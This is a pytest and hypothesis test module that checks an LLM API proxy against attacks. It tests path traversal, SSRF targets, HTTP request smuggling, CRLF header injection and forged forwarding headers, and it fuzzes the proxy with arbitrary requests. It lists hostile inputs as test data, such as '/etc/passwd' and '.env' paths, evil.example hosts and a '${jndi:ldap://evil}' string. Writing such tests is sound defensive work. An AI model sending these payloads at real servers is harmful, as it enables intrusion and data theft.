"""
Addresses and framing that mean one thing to one reader and another to the next: S15 to S19, against the server as it is
deployed. Refused means: an error of the caller's kind, an upstream that hears nothing, a connection that is closed
where nobody can know any more where the next request begins.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests import canned
from tests.attacks.dialects import CHAT, DIALECTS, GEMINI, RESPONSES, right_answer
from tests.attacks.server import PASSWORD, Server, read_to_the_end, split_answer
from tests.fake_provider import FakeProvider

KEY = "sk-live-0123456789abcdefghij"
HOST = b"Host: localhost\r\n"
CLOSE = b"Connection: close\r\n"
TYPE = b"Content-Type: application/json\r\n"
BODY = json.dumps(canned.CHAT_REQUEST).encode()
POST = b"POST /v1/chat/completions HTTP/1.1\r\n" + HOST + TYPE
#: A second request behind the first one: it must never be answered as one.
NEXT = b"GET /livez HTTP/1.1\r\n" + HOST + b"\r\n"


@pytest.fixture(scope="module")
def upstream() -> Iterator[FakeProvider]:
    with FakeProvider() as provider:
        provider.default(right_answer)
        yield provider


@pytest.fixture(scope="module", params=["threads", "loop"])
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, upstream: FakeProvider
) -> Iterator[Server]:
    folder: Path = tmp_path_factory.mktemp("http")
    keys = {f"{name}_API_KEYS": f"{KEY}{name}" for name in ("OPENAI", "ANTHROPIC", "GEMINI")}
    origins = {f"{name}_BASE_URL": f"{upstream.origin}/base" for name in ("OPENAI", "ANTHROPIC", "GEMINI")}
    with Server(
        folder,
        **keys,
        **origins,
        MIDDLEWARE_PASSWORD=PASSWORD,
        ENABLE_RATE_LIMITING="false",
        MAX_REQUEST_SIZE="1048576",
        DRIVER=request.param,
    ) as running:
        yield running


def get(server: Server, target: bytes, headers: bytes = HOST) -> tuple[int, dict[str, str], bytes]:
    return server.raw(b"GET " + target + b" HTTP/1.1\r\n" + headers + CLOSE + b"\r\n")


# -- S15 ---------------------------------------------------------------------------------------------------

CLIMBING = (
    b"/v1/../../admin",
    b"/v1/../middleware/api/keys",
    b"/v1/./models",
    b"/v1/models/..",
    b"/v1/models/../../etc/passwd",
    b"/v1/models/..%2f..%2ffiles",
    b"/v1/models/%2e%2e/files",
    b"/v1/models/%2e%2e%2f%2e%2e%2fadmin",
    b"/v1/%2e/models",
    b"/v1/files/..%5c..%5cx",
    b"/v1/files/%252e%252e%252fx",
    b"/v1/models/x%252f..",
    b"/v1\\models",
    b"/v1/models\\..\\x",
    b"/v1/models/%5c..%5cx",
    b"/v1//models",
    b"/v1/models//x",
    b"//evil.example/v1/models",
    b"///evil.example/v1/models",
    b"/\\evil.example/v1/models",
    b"http://169.254.169.254/v1/models",
    b"https://evil.example/v1/models",
    b"http://localhost@evil.example/v1/models",
    b"file:///etc/passwd",
    b"/v1/models;x=../y",
    b"/v1/models/x;jsessionid=1",
    b"/v1/models%3fkey=x",
    b"/v1/models%23x",
    b"/v1/models#x",
    b"/v1/models/x%00.json",
    b"/v1/models/x%0d%0aX-Evil:%20y",
    b"/v1/models/x%0aGET%20/",
    b"/v1/models/%09x",
    b"/v1/models/%7f",
    b"/v1/models/%c2%80",
    b"/v1/models/%ff%fe",
    b"/v1/models/%c0%ae%c0%ae/x",
    b"/v1/models/%ed%a0%80",
    b"/v1/models/%",
    b"/v1/models/%2",
    b"/v1/models/%zz",
    b"/v1/models/%u002e%u002e",
    b"/v1beta/models/../../x:generateContent",
    b"/v1beta/models/x%2f..%2f..%2fy:generateContent",
    b"/v1beta/models/%2e%2e%2fx:generateContent",
    b"/v1beta/models/.hidden:generateContent",
    b"/openai/../v1/models",
    b"/openai/%2e%2e/v1/models",
    b"/openai//v1/models",
    b"/v1/nothing",
    b"/v2/models",
    b"/v1/organization/admin_api_keys",
    b"/v1/organizations/api_keys",
    b"/.env",
    b"/.git/config",
    b"/data/keys.db",
    b"/etc/passwd",
)


@pytest.mark.parametrize("target", CLIMBING, ids=repr)
@pytest.mark.parametrize("method", [b"GET", b"POST"])
def test_s15_paths_that_climb_reach_no_upstream(
    server: Server, upstream: FakeProvider, target: bytes, method: bytes
) -> None:
    before = len(upstream.received)
    length = b"Content-Length: %d\r\n" % len(BODY) if method == b"POST" else b""
    status, headers, body = server.raw(
        method + b" " + target + b" HTTP/1.1\r\n" + HOST + TYPE + CLOSE + length + b"\r\n" + BODY * (method == b"POST")
    )
    assert status in (400, 404, 405), (status, body)
    assert headers["content-type"] == "application/json"
    assert set(json.loads(body)) >= {"error"}
    assert upstream.received[before:] == []


@pytest.mark.parametrize(
    "target",
    [b"/v1beta/models/gemini-test:generateContent?key=a&key=b", b"/v1/models?key=a", b"/v1/models?%6bey=a&x=1"],
)
def test_s15_a_key_in_the_query_never_goes_upstream(server: Server, upstream: FakeProvider, target: bytes) -> None:
    before = len(upstream.received)
    status, _, _ = server.raw(
        b"POST " + target + b" HTTP/1.1\r\n" + HOST + TYPE + CLOSE + b"Content-Length: %d\r\n\r\n" % len(BODY) + BODY
    )
    assert status < 500
    for request in upstream.received[before:]:
        assert "key" not in request.target.partition("?")[2].replace("%6b", "k")


@pytest.mark.parametrize("model", ["a/b", "a:b", "publishers/x/models/y", "a@b", "llama3:8b", "x%2fy"])
def test_s15_what_is_passed_on_stays_below_the_configured_prefix(
    server: Server, upstream: FakeProvider, model: str
) -> None:
    before = len(upstream.received)
    get(server, f"/v1/models/{model}".encode())
    for request in upstream.received[before:]:
        assert request.target.startswith("/base/v1/models/")
        assert request.headers["host"] == upstream.origin.removeprefix("http://")
        assert ".." not in request.path


# -- S16 ---------------------------------------------------------------------------------------------------

CHUNKED = b"Transfer-Encoding: chunked\r\n"
TWO = b"{}"
FRAMING: dict[str, bytes] = {
    "an asterisk to be got": b"GET * HTTP/1.1\r\n" + HOST + b"\r\n",
    "an authority to be got": b"GET evil.example:443 HTTP/1.1\r\n" + HOST + b"\r\n",
    "length and chunked": POST + b"Content-Length: 5\r\n" + CHUNKED + b"\r\n0\r\n\r\n",
    "chunked and length": POST + CHUNKED + b"Content-Length: 5\r\n\r\n0\r\n\r\n",
    "two equal lengths": POST + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n" + TWO,
    "two different lengths": POST + b"Content-Length: 2\r\nContent-Length: 40\r\n\r\n" + TWO,
    "a list of lengths": POST + b"Content-Length: 2, 2\r\n\r\n" + TWO,
    "a signed length": POST + b"Content-Length: +2\r\n\r\n" + TWO,
    "a negative length": POST + b"Content-Length: -2\r\n\r\n" + TWO,
    "a hexadecimal length": POST + b"Content-Length: 0x2\r\n\r\n" + TWO,
    "a superscript length": POST + b"Content-Length: \xb2\r\n\r\n" + TWO,
    "a length with an underscore": POST + b"Content-Length: 1_0\r\n\r\n" + TWO,
    "a length of 5000 digits": POST + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n" + TWO,
    "no length": POST + b"Content-Length:\r\n\r\n" + TWO,
    "blank before the colon": POST + b"Content-Length : 2\r\n\r\n" + TWO,
    "an unknown coding": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunked, then identity": POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "chunked twice": POST + CHUNKED * 2 + b"\r\n0\r\n\r\n",
    "chunked and HTTP/1.0": POST.replace(b"1.1", b"1.0") + CHUNKED + b"\r\n0\r\n\r\n",
    "a vertical tab": POST + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "obs-fold": POST + b"X-A: b\r\n c\r\nContent-Length: 2\r\n\r\n" + TWO,
    "a folded coding": POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "bare LF": b"POST /v1/chat/completions HTTP/1.1\nHost: localhost\nContent-Length: 2\n\n{}",
    "bare LF in the head": POST + b"X-A: b\nX-B: c\r\nContent-Length: 2\r\n\r\n" + TWO,
    "bare CR in a value": POST + b"X-A: b\rX-B: c\r\nContent-Length: 2\r\n\r\n" + TWO,
    "NUL in a value": POST + b"X-A: b\x00\r\nContent-Length: 2\r\n\r\n" + TWO,
    "a header without a name": POST + b": x\r\nContent-Length: 2\r\n\r\n" + TWO,
    "a header without a colon": POST + b"no colon\r\nContent-Length: 2\r\n\r\n" + TWO,
    "two hosts": POST + b"Host: evil.example\r\nContent-Length: 2\r\n\r\n" + TWO,
    "a strange version": POST.replace(b"HTTP/1.1", b"HTTP/3.7") + b"\r\n",
    "no version": b"GET /v1/models\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "a tab in the request line": b"GET\t/v1/models HTTP/1.1\r\n" + HOST + b"\r\n",
    "a blank in the path": b"GET /v1/mod els HTTP/1.1\r\n" + HOST + b"\r\n",
    "bytes beyond ASCII in the path": b"GET /v1/\xff\xfe HTTP/1.1\r\n" + HOST + b"\r\n",
    "an odd expectation": POST + b"Expect: 200-ok\r\nContent-Length: 2\r\n\r\n" + TWO,
    "a huge header": b"GET /v1/models HTTP/1.1\r\n" + HOST + b"X-A: " + b"a" * 20_000 + b"\r\n\r\n",
    "many headers": b"GET /v1/models HTTP/1.1\r\n" + HOST + b"".join(b"X-%d: a\r\n" % n for n in range(300)) + b"\r\n",
    "a long target": b"GET /v1/" + b"a" * 9000 + b" HTTP/1.1\r\n" + HOST + b"\r\n",
}
CHUNKS: dict[str, bytes] = {
    "no number": b"ZZ\r\n{}\r\n0\r\n\r\n",
    "a longer chunk than it says": b"1\r\n{}\r\n0\r\n\r\n",
    "a shorter chunk than it says": b"5\r\n{}\r\n0\r\n\r\n",
    "a negative size": b"-2\r\n{}\r\n0\r\n\r\n",
    "a signed size": b"+2\r\n{}\r\n0\r\n\r\n",
    "a prefix": b"0x2\r\n{}\r\n0\r\n\r\n",
    "an underscore": b"0_2\r\n{}\r\n0\r\n\r\n",
    "a blank": b" 2\r\n{}\r\n0\r\n\r\n",
    "bare LF": b"2\n{}\n0\n\n",
    "a broken extension": b"2;\x00=x\r\n{}\r\n0\r\n\r\n",
    "an extension with LF": b"2;a\nb\r\n{}\r\n0\r\n\r\n",
    "a trailer without colon": b"2\r\n{}\r\n0\r\nno colon\r\n\r\n",
}


@pytest.mark.parametrize("request_bytes", FRAMING.values(), ids=list(FRAMING))
def test_s16_ambiguous_framing_is_refused_and_the_connection_closed(
    server: Server, upstream: FakeProvider, request_bytes: bytes
) -> None:
    before = len(upstream.received)
    with socket.create_connection(("127.0.0.1", server.port), timeout=5.0) as connection:
        connection.sendall(request_bytes + NEXT)
        received = read_to_the_end(connection)  # raises TimeoutError where the connection stays open
    status, _, rest = split_answer(received)
    assert status in (400, 414, 417, 431, 501), received[:300]
    assert b"HTTP/1.1 2" not in rest
    assert b"Traceback" not in rest
    assert upstream.received[before:] == []


@pytest.mark.parametrize("name", ["a huge header", "many headers", "a long target", "two equal lengths"])
def test_what_the_server_refuses_before_the_application_is_told_in_json(server: Server, name: str) -> None:
    status, headers, rest = server.raw(FRAMING[name] + NEXT)
    assert headers["content-type"] == "application/json"
    error = json.loads(rest)["error"]
    assert error["message"]
    assert error["code"] in (status, str(status))


@pytest.mark.parametrize("chunks", CHUNKS.values(), ids=list(CHUNKS))
@pytest.mark.parametrize(
    "path", ["/v1/chat/completions", "/v1/messages", "/v1/files", "/middleware/api/login", "/middleware/login"]
)
def test_s16_a_badly_framed_body_is_a_400_and_the_connection_closes(
    server: Server, upstream: FakeProvider, path: str, chunks: bytes
) -> None:
    before = len(upstream.received)
    kind = b"application/x-www-form-urlencoded" if path == "/middleware/login" else b"application/json"
    head = b"POST %s HTTP/1.1\r\n" % path.encode() + HOST + b"Content-Type: " + kind + b"\r\n" + CHUNKED + b"\r\n"
    with socket.create_connection(("127.0.0.1", server.port), timeout=5.0) as connection:
        connection.sendall(head + chunks + NEXT)
        received = read_to_the_end(connection)
    status, headers, rest = split_answer(received)
    assert status == 400, received[:400]
    assert b"HTTP/1.1 2" not in rest
    assert b"Traceback" not in rest
    if path != "/middleware/login":
        assert headers["content-type"] == "application/json"
        assert "error" in json.loads(rest)
    assert upstream.received[before:] == []


def test_s16_a_body_that_nobody_read_is_never_taken_for_the_next_request(
    server: Server, upstream: FakeProvider
) -> None:
    inner = b"GET /v1/models HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n"
    before = len(upstream.received)
    for path in (b"/v1/nothing", b"/livez", b"/middleware/api/keys", b"/v1/../x"):
        outer = b"GET " + path + b" HTTP/1.1\r\n" + HOST + b"Content-Length: %d\r\n\r\n" % len(inner) + inner
        last = b"GET /health HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n"
        _, _, rest = server.raw(outer + last)
        assert rest.count(b"HTTP/1.1 ") <= 1, rest
    assert upstream.received[before:] == []


# -- S17 to S19 ----------------------------------------------------------------------------------------------

SPLITTING = ("x\r\nX-Evil: y", "x\nX-Evil: y", "x\r", "x\0y", "x\u0085y", "x\x7f", "\r\n\r\nGET / HTTP/1.1")


@pytest.mark.parametrize("text", SPLITTING, ids=repr)
def test_s17_a_line_break_in_a_models_name_is_refused(server: Server, upstream: FakeProvider, text: str) -> None:
    before = len(upstream.received)
    for dialect in DIALECTS:
        if dialect.model_in_body:
            body = json.dumps({**dialect.body, "model": text}).encode()
            answer = server.request("POST", dialect.path, body=body, headers={"Content-Type": "application/json"})
            assert answer.status == 400
            dialect.check_error(400, answer.headers["content-type"], answer.data)
    assert upstream.received[before:] == []


@pytest.mark.parametrize(
    "name", [b"X-Request-ID", b"Anthropic-Version", b"OpenAI-Beta", b"Content-Type", b"Idempotency-Key", b"Range"]
)
@pytest.mark.parametrize("value", [b"a\rX-Evil: y", b"a\nX-Evil: y", b"a\x00b", b"a\r\n X-Evil: y"])
def test_s17_a_line_break_in_a_header_is_refused(
    server: Server, upstream: FakeProvider, name: bytes, value: bytes
) -> None:
    before = len(upstream.received)
    status, headers, _ = get(server, b"/v1/models", HOST + name + b": " + value + b"\r\n")
    assert status == 400
    assert "x-evil" not in headers
    assert upstream.received[before:] == []


@pytest.mark.parametrize(
    "value", [b"<script>", b"a b", b"x" * 200, b"\xff\xfe", b"%0d%0aX-Evil: y", b"${jndi:ldap://evil}", b""]
)
def test_s17_a_request_id_that_is_none_is_replaced(server: Server, value: bytes) -> None:
    _, headers, _ = get(server, b"/v1/models", HOST + b"X-Request-ID: " + value + b"\r\n")
    assert len(headers["x-request-id"]) == 32
    assert headers["x-request-id"].isalnum()


@pytest.mark.parametrize(
    "named", ["authorization", "content-length", "content-type", "host", "x-api-key", "close, authorization", "te, x"]
)
def test_s18_a_connection_header_takes_nothing_away(server: Server, upstream: FakeProvider, named: str) -> None:
    headers = {"Connection": named, "Content-Type": "application/json", "TE": "trailers", "Trailer": "X-Evil"}
    answer = server.request("POST", CHAT.path, body=BODY, headers=headers)
    assert answer.status == 200
    seen = upstream.received[-1]
    assert seen.body == BODY
    assert seen.key == f"{KEY}OPENAI"
    assert seen.headers["content-type"] == "application/json"
    assert not {"connection", "te", "trailer", "transfer-encoding", "upgrade"} & set(seen.headers)


def test_s18_a_trailer_is_no_header(server: Server, upstream: FakeProvider) -> None:
    chunked = b"%x\r\n%b\r\n0\r\nX-Api-Key: evil\r\nAuthorization: evil\r\n\r\n" % (len(BODY), BODY)
    before = len(upstream.received)
    status, _, _ = server.raw(POST + CHUNKED + CLOSE + b"Trailer: X-Api-Key\r\n\r\n" + chunked)
    assert status in (200, 400)
    assert "evil" not in str([request.header_list for request in upstream.received[before:]])


@pytest.mark.parametrize("path", [b"/", b"/middleware/login", b"/middleware/", b"/v1/models"])
def test_s19_nobody_is_believed_who_says_how_he_came_here(server: Server, path: bytes) -> None:
    forwarded = (
        b"X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Prefix: /evil\r\n"
        b"X-Forwarded-For: 10.9.8.7\r\nX-Forwarded-Port: 4433\r\nForwarded: host=evil.example;proto=https\r\n"
        b"X-Script-Name: /evil\r\nScript-Name: /evil\r\n"
    )
    _, headers, body = get(server, path, HOST + forwarded)
    assert "evil" not in str(headers)
    assert b"evil" not in body
    assert "https://" not in headers.get("location", "")
    form = f"password={PASSWORD}".encode()
    _, headers, _ = server.raw(
        b"POST /middleware/login HTTP/1.1\r\n"
        + HOST
        + forwarded
        + CLOSE
        + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(form)
        + form
    )
    assert "Secure" not in headers["set-cookie"]
    assert "evil" not in str(headers)
    assert "10.9.8.7" not in server.log


# -- S21: bodies without end, at the real server ------------------------------------------------------------------


def test_s21_a_gigabyte_is_refused_at_its_announcement(server: Server, upstream: FakeProvider) -> None:
    before = len(upstream.received)
    for dialect in DIALECTS:
        head = b"POST %s HTTP/1.1\r\n" % dialect.path.encode() + HOST + TYPE + CLOSE
        status, headers, body = server.raw(head + b"Content-Length: 1073741824\r\n\r\n" + b"x" * 1000)
        assert status == 413
        dialect.check_error(413, headers["content-type"], body)
    assert upstream.received[before:] == []


def test_s21_a_chunked_body_without_end_is_refused_and_takes_no_memory(server: Server, upstream: FakeProvider) -> None:
    before, memory = len(upstream.received), server.resident_bytes()
    block = b"100000\r\n" + b"x" * 0x100000 + b"\r\n"
    with socket.create_connection(("127.0.0.1", server.port), timeout=5.0) as connection:
        connection.sendall(POST + CHUNKED + b"\r\n")
        sent = 0
        try:
            for _ in range(64):
                connection.sendall(block)
                sent += 1
        except (BrokenPipeError, ConnectionResetError, TimeoutError):
            pass  # it was closed on us: as it should be
        try:
            received = read_to_the_end(connection)
        except TimeoutError:
            received = b""
    assert received == b"" or split_answer(received)[0] == 413
    assert sent < 64
    assert server.resident_bytes() - memory < 32 * 1024 * 1024
    assert upstream.received[before:] == []


# -- anything at all ------------------------------------------------------------------------------------------------

TOKENS = st.text("ABCDEFGHIJKLMNOPQRSTUVWXYZ!#$%&'*+-.^_`|~", min_size=1, max_size=12)
METHODS = st.one_of(st.sampled_from(["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE"]), TOKENS)
KNOWN = st.sampled_from(
    [dialect.path for dialect in DIALECTS]
    + ["/", "/v1/models", "/v1/files", "/v1beta/models", "/livez", "/metrics", "/middleware/", "/middleware/api/keys"]
)
PIECES = st.one_of(
    st.sampled_from(
        ["..", ".", "", "%2e%2e", "%2f", "%00", "%0d%0a", ":", "v1", "v1beta", "models", "middleware", "*"]
    ),
    st.text("".join(map(chr, range(0x21, 0x7F))), max_size=12),
)
TARGETS = st.one_of(KNOWN, st.lists(PIECES, max_size=6).map(lambda parts: "/" + "/".join(parts)))
NAMES = st.one_of(
    st.sampled_from(
        ["Authorization", "x-api-key", "Cookie", "Content-Encoding", "Accept", "Origin", "Range", "Upgrade", "Expect"]
        + ["Content-Type", "anthropic-version", "X-Forwarded-For", "Transfer-Encoding", "Connection", "Host"]
    ),
    st.text("abcdefghijklmnopqrstuvwxyz-_0123456789", min_size=1, max_size=20),
)
VALUES = st.one_of(
    st.sampled_from(
        ["", "gzip", "close", "websocket", "Bearer x", "application/json", "100-continue", "chunked", "\xb2"]
    ),
    st.text("".join(map(chr, [*range(0x20, 0x7F), *range(0xA0, 0x100)])), max_size=40),
)
JSON_VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=20)),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)),
    max_leaves=12,
)
GOOD = st.sampled_from([json.dumps(dialect.body) for dialect in DIALECTS])
MEMBERS = st.sampled_from(["model", "messages", "contents", "input", "stream", "tools", "max_tokens", "system"])
BODIES = st.one_of(
    st.binary(max_size=200),
    GOOD.map(str.encode),
    st.dictionaries(MEMBERS, JSON_VALUES, max_size=5).map(lambda value: json.dumps(value).encode()),
    st.tuples(GOOD, st.integers(0, 200)).map(lambda cut: cut[0][: cut[1]].encode()),
)


@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(METHODS, TARGETS, st.lists(st.tuples(NAMES, VALUES), max_size=4), BODIES)
def test_whatever_comes_is_answered_in_json_and_the_server_lives(
    server: Server, method: str, target: str, headers: list[tuple[str, str]], body: bytes
) -> None:
    lines = [f"{method} {target} HTTP/1.1", "Host: localhost", f"Content-Length: {len(body)}", "Connection: close"]
    lines += [f"{name}: {value}" for name, value in headers]
    status, answered, rest = server.raw("\r\n".join([*lines, "", ""]).encode("latin-1") + body)
    while status == 100:
        status, answered, rest = split_answer(rest)
    assert status < 500 or status in (501, 502, 503, 504), (method, target, headers, body, rest[:300])
    assert b"Traceback" not in rest
    ours = answered.get("content-type", "").startswith("application/json")
    if status >= 400 and ours and method != "HEAD":
        assert "error" in json.loads(rest)
    pages = target.startswith("/middleware") or target == "/" or "%" in target
    refused_by_the_server = rest.startswith(b"<html>")
    assert status < 400 or method == "HEAD" or ours or pages or refused_by_the_server, (status, answered, rest[:200])


def test_after_all_this_the_server_serves_and_has_logged_no_defect(server: Server, upstream: FakeProvider) -> None:
    for dialect in (CHAT, RESPONSES, GEMINI):
        body = json.dumps(dialect.body).encode()
        answer = server.request("POST", dialect.path, body=body, headers={"Content-Type": "application/json"})
        assert (answer.status, answer.json()) == (200, dialect.answer)
    assert upstream.problems == []
    states = server.request("GET", "/middleware/api/keys", headers=server.login()).json()
    assert {row["status"] for row in states} == {"Healthy"}
    for line in server.log.splitlines():
        assert '"level":"error"' not in line, line
        assert '"exception"' not in line, line
        assert "Traceback" not in line, line
    assert KEY not in server.log
